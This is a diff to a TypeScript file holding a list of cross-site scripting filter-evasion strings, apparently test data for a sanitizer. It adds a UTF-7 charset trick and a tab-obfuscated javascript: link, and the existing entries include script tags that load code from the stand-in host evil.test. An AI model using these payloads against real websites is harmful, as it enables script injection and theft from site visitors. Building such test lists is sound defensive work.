@@ -1,5 +1,7 @@
 /** Ways in which scripts, forms and foreign documents were brought past filters; `alert(1)` runs where one works. */
 export const EVASIONS: readonly string[] = [
+  "<img src='x' <meta http-equiv=content-type content='text/html; charset=utf-7'>",
+  "<style><a href='jav&#x09;ascript:alert(1)'>x</a></style>",
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
   "<script/xss src='//evil.test/x.js'></script>",
